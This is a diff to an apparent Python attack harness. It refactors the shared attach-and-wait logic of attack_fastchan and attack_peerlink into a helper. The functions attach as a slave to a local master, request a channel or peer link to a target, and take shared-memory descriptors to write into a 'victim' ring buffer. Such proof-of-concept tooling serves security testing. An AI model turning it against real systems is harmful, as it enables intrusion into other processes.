@@ -119,19 +119,27 @@ def attack_link(args: argparse.Namespace) -> None:
     control.close()
 
 
-def attack_fastchan(args: argparse.Namespace) -> None:
-    control, info, (link, _wake, _master_wake) = request_attach(args.name, default_master_path())
+def attach_and_ask(name: str, ask: dict[str, Any], answer: str) -> tuple[socket.socket, Any, dict[str, Any], list[int]]:
+    """Attaches as a slave, sends ask, and waits for the master's event
+    answer (what comes before it is dropped): (control, attach info, the
+    answer, its descriptors)."""
+    control, info, (link, _wake, _master_wake) = request_attach(name, default_master_path())
     os.close(link)
-    send_message(control, {"op": "fc_connect", "req": 1, "address": args.target, "port": args.port})
+    send_message(control, ask)
     control.settimeout(10)
     while True:
         msg, fds = recv_message(control)
         if msg is None:
             raise SystemExit("master closed the connection")
-        if msg.get("event") == "fc_result":
-            break
+        if msg.get("event") == answer:
+            return control, info, msg, fds
         for fd in fds:
             os.close(fd)
+
+
+def attack_fastchan(args: argparse.Namespace) -> None:
+    control, info, msg, fds = attach_and_ask(args.name, {"op": "fc_connect", "req": 1, "address": args.target,
+                                                         "port": args.port}, "fc_result")
     if not msg.get("ok"):
         raise SystemExit(f"no fast channel: {msg}")
     memfd, _mine, peer_wake = fds
@@ -224,18 +232,7 @@ class RingWriter:
 
 
 def attack_peerlink(args: argparse.Namespace) -> None:
-    control, info, (link, _wake, _master_wake) = request_attach(args.name, default_master_path())
-    os.close(link)
-    send_message(control, {"event": "peer_want", "address": args.target})
-    control.settimeout(10)
-    while True:
-        msg, fds = recv_message(control)
-        if msg is None:
-            raise SystemExit("master closed the connection")
-        if msg.get("event") == "peer_up":
-            break
-        for fd in fds:
-            os.close(fd)
+    control, info, msg, fds = attach_and_ask(args.name, {"event": "peer_want", "address": args.target}, "peer_up")
     memfd, victim_wake = fds
     size = os.fstat(memfd).st_size
     ring_size = (size - 2 * PAGE) // 2
